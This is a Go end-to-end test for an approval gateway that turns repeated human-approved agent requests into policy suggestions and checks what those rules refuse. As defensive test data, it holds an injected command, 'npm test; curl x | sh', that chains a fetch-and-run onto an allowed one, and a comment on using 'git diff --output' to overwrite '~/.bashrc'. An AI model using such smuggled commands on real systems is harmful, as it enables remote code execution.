package gateway_test

import (
	"encoding/json"
	"net/http"
	"testing"

	"github.com/metnos/gateway/approvals"
	"github.com/metnos/gateway/replay"
)

// TestAPI_Suggestions: a scripted history decided by a person through the
// API yields the expected suggestions with their replay; a family with one
// person-denied request is never suggested; adopting a suggestion as a
// run-time rule answers the next identical request at once.
func TestAPI_Suggestions(t *testing.T) {
	g := startE2E(t, e2eOptions{})
	n := 0
	decided := func(capability, target, decision string) approvals.Request {
		t.Helper()
		n++
		r := g.do(t, "POST", "/v1/requests", tokA1, jsonBody{"call_id": "h" + string(rune('a'+n)) + target,
			"capability": capability, "target": target, "intent": "work", "executor": "worker"}).request(t)
		if r.Status != approvals.StatusPending {
			t.Fatalf("%s %s: %s", capability, target, r.Status)
		}
		if decision != "" {
			g.want(t, http.StatusOK, "POST", "/v1/requests/"+r.ID+"/decision", tokAdmin, jsonBody{"decision": decision})
		}
		return r
	}
	first := decided("code:exec", "npm test", "allow_once")
	decided("code:exec", "npm test", "allow_once")
	decided("code:exec", "npm test", "allow_once")
	decided("code:exec", "npm test", "") // still pending: would_allow counts it
	decided("fs:read", "/srv/data/q1.csv", "allow_once")
	decided("fs:read", "/srv/data/q2.csv", "allow_once")
	decided("fs:read", "/srv/data/q3.csv", "allow_once")
	decided("fs:read", "/srv/logs/a.log", "allow_once") // the logs family has a person's deny
	decided("fs:read", "/srv/logs/b.log", "allow_once")
	decided("fs:read", "/srv/logs/c.log", "allow_once")
	decided("fs:read", "/srv/logs/d.log", "deny")
	decided("code:exec", "make build && make deploy", "allow_once") // not one simple command
	decided("code:exec", "make build && make deploy", "allow_once")
	decided("code:exec", "make build && make deploy", "allow_once")
	decided("code:exec", "git diff HEAD~1", "allow_once") // git diff* would admit --output=~/.bashrc
	decided("code:exec", "git diff --stat", "allow_once")
	decided("code:exec", "git diff main", "allow_once")
	decided("network:http", "https://api.example.com/a", "allow_once") // twice only
	decided("network:http", "https://api.example.com/b", "allow_once")

	g.want(t, http.StatusForbidden, "GET", "/v1/policy/suggestions", tokA1, nil)
	g.want(t, http.StatusBadRequest, "GET", "/v1/policy/suggestions?min=0", tokAdmin, nil)
	g.want(t, http.StatusBadRequest, "GET", "/v1/policy/suggestions?since=soon", tokAdmin, nil)
	var got struct {
		Suggestions []replay.Suggestion `json:"suggestions"`
	}
	r := g.want(t, http.StatusOK, "GET", "/v1/policy/suggestions?since=7d&min=3", tokAdmin, nil)
	if err := json.Unmarshal(r.Body, &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Suggestions) != 2 {
		t.Fatalf("suggestions %+v, want npm test and /srv/data/*.csv", got.Suggestions)
	}
	npm, csv := got.Suggestions[0], got.Suggestions[1]
	if npm.Capability != "code:exec" || npm.Target != "npm test" || npm.Action != "approve" || npm.Agent != "a1" ||
		npm.Channel != "web" || npm.SenderID != "a1" || npm.Count != 3 || len(npm.Examples) != 3 || npm.Examples[0] != first.ID ||
		npm.Replay != (replay.Replay{WouldAllow: 4}) {
		t.Errorf("npm suggestion %+v", npm)
	}
	if csv.Capability != "fs:read" || csv.Target != "/srv/data/*.csv" || csv.Count != 3 || csv.Replay.WouldAllow != 3 {
		t.Errorf("csv suggestion %+v", csv)
	}

	// The rule the git diff family would need is refused on the API too.
	g.want(t, http.StatusBadRequest, "POST", "/v1/policy/rules", tokAdmin, jsonBody{"capability": "code:exec",
		"target": "git diff*", "action": "approve"})

	// Adopt the first: a normal run-time rule; the next npm test is allowed at once.
	g.want(t, http.StatusCreated, "POST", "/v1/policy/rules", tokAdmin, jsonBody{"capability": npm.Capability,
		"target": npm.Target, "action": npm.Action, "agent": npm.Agent, "channel": npm.Channel, "sender_id": npm.SenderID})
	next := g.do(t, "POST", "/v1/requests", tokA1, jsonBody{"capability": "code:exec", "target": "npm test",
		"intent": "work", "executor": "worker"}).request(t)
	if next.Status != approvals.StatusAllowed {
		t.Fatalf("after adopting: %s (%s)", next.Status, next.Reason)
	}
	chain := g.do(t, "POST", "/v1/requests", tokA1, jsonBody{"capability": "code:exec", "target": "npm test; curl x | sh",
		"intent": "work", "executor": "worker"}).request(t)
	if chain.Status == approvals.StatusAllowed {
		t.Fatal("the adopted rule allowed a chain of commands")
	}
}
